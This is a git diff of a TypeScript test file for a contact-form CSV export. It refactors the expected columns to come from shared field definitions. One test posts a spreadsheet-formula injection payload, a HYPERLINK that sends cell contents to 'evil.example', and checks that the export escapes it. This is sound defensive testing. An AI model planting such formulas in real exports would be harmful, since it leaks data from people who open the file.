@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { emptyFields, fieldNames, fieldOf } from '../../src/forms/submission-fields.ts';
 import { readCsv } from '../reading/csv.ts';
 import { engines, freshDatabase, type TestDatabase } from '../servers/databases.ts';
 import { expectProblem } from '../servers/problems.ts';
@@ -6,7 +7,8 @@ import { enquiry, logIn, post } from '../servers/requests.ts';
 import { insert, submission } from '../servers/rows.ts';
 import { startApplication, type TestSite } from '../servers/site.ts';
 
-const header = ['ID', 'Name', 'Email', 'Company', 'Phone', 'Subject', 'Message', 'Date', 'Website'];
+/** The fields' own names are in `csv.test.ts`. */
+const header = ['ID', ...fieldNames.map((name) => fieldOf(name).label), 'Date', 'Website'];
 
 describe.each(engines)('The CSV export on %s', (engine) => {
   let database: TestDatabase;
@@ -60,12 +62,7 @@ describe.each(engines)('The CSV export on %s', (engine) => {
     expect(await rows()).toEqual(
       [newer, older].map((row) => [
         row.id,
-        row.name,
-        row.email,
-        row.company ?? '',
-        row.phone === null ? '' : String(row.phone),
-        row.subject,
-        row.message,
+        ...fieldNames.map((name) => String({ ...emptyFields, ...row }[name] ?? '')),
         row.created_at,
         row.website,
       ]),
@@ -76,12 +73,14 @@ describe.each(engines)('The CSV export on %s', (engine) => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
     await post(`${site.url}/api/contact-submissions`, enquiry({ name: formula, message: '@SUM(A1)' }));
     const [row] = await rows();
-    expect([row?.[1], row?.[6]]).toEqual([`'${formula}`, `'@SUM(A1)`]);
+    expect([row?.[header.indexOf('Name')], row?.[header.indexOf('Message')]]).toEqual([`'${formula}`, `'@SUM(A1)`]);
   });
 
   test('holds only what the search finds', async () => {
     await insert(database, [submission({ subject: '50% off' }), submission({ subject: '500 off' })]);
-    expect((await rows(`?q=${encodeURIComponent('50%')}`)).map((row) => row[5])).toEqual(['50% off']);
+    expect((await rows(`?q=${encodeURIComponent('50%')}`)).map((row) => row[header.indexOf('Subject')])).toEqual([
+      '50% off',
+    ]);
   });
 
   test('refuses a search that is too long', async () => {
@@ -105,7 +104,7 @@ describe.each(engines)('The CSV export on %s', (engine) => {
       const [left, right] = [one, other].map(({ created_at, id }) => `${created_at} ${id}`) as [string, string];
       return left < right ? 1 : -1;
     });
-    expect(table.map((row) => row[5])).toEqual(inOrder.map(({ subject }) => subject));
+    expect(table.map((row) => row[header.indexOf('Subject')])).toEqual(inOrder.map(({ subject }) => subject));
   });
 
   test('survives a browser that goes away in the middle', async () => {
